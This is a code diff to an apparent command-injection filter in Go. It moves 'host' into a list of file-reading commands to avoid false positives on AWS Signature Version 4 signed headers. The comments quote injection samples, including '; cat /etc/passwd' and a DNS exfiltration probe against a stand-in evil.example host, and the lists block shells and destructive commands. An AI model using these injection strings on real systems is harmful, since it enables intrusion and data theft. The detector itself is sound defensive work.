@@ -412,15 +412,19 @@ var (
 	// ("; cat /etc/passwd"); not before a word ("bring it; cat lovers",
 	// "party; bash at 8") nor a number ("Pets: dog; cat 3 years old"),
 	// but for shellCommandsNumber.
-	shellCommandsWords = []string{"id", "ls", "pwd", "ps", "dig", "host",
+	shellCommandsWords = []string{"id", "ls", "pwd", "ps", "dig",
 		"sh", "bash", "zsh", "dash", "ksh", "python", "python2", "python3", "perl", "php", "ruby", "node", "env", "ip",
 		"rm", "echo", "reboot", "shutdown", "who", "uptime", "ver"}
 	// shellCommandsFile are words that read a file: refused before an
 	// option, a path, a variable, a quote or a redirection ("; cat
 	// /etc/passwd", "|more<x"), not alone: with no file they read their
 	// input and probe nothing, and "Q&A; & more", "R&D; & less" end prose
-	// (attack 60).
-	shellCommandsFile = []string{"cat", "head", "tail", "more", "less"}
+	// (attack 60). And host, which alone prints its usage and looks up
+	// nothing (;host $(whoami).evil.example is refused): AWS Signature
+	// Version 4's signed headers, content-type;host;x-amz-date, in its
+	// Authorization header and presigned URLs, are a list (attack 86's
+	// false positive).
+	shellCommandsFile = []string{"cat", "head", "tail", "more", "less", "host"}
 	// shellCommandsNumber are shellCommandsWords whose argument is a
 	// number: "; sleep 5", "; ping 127.0.0.1", "; kill 1".
 	shellCommandsNumber = []string{"sleep", "ping", "kill"}
